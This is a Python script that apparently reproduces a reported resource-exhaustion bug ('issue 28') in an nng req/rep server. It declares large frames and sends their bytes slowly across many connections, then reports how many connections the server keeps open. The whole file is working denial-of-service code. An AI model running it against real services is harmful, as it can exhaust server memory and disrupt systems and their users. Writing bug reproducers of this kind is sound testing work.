"""Declares large frames to an nng req/rep port and sends their bytes
slowly, as an unauthenticated client would to make the server hold memory
(issue 28). Usage: frame_flood.py HOST PORT N DECLARED CHUNK ROUNDS PAUSE

Opens N connections, greets each as nng's req0, writes a length header
declaring DECLARED bytes, then ROUNDS times sends CHUNK bytes on every
connection still open and sleeps PAUSE seconds. Prints "open K" after
each round (connections the server has not closed) and, at the end,
"sent B" (bytes the server accepted in all) and "closed C"."""
import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
declared, chunk = int(sys.argv[4]), int(sys.argv[5])
rounds, pause = int(sys.argv[6]), float(sys.argv[7])
conns = []
for i in range(n):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        s.sendall(b"\x00SP\x00\x00\x30\x00\x00" + declared.to_bytes(8, "big"))
        conns.append(s)
    except OSError as e:
        print("connect %d failed: %s" % (i, e), flush=True)
        break
data = b"\x00" * chunk
sent = 0
closed = 0
for r in range(rounds):
    alive = []
    for s in conns:
        try:
            sent += s.send(data)
            alive.append(s)
        except BlockingIOError:
            alive.append(s)  # the server reads no faster: still held
        except OSError:
            closed += 1
            s.close()
    conns = alive
    print("open %d" % len(conns), flush=True)
    time.sleep(pause)
print("sent %d" % sent, flush=True)
print("closed %d" % closed, flush=True)
for s in conns:
    s.close()
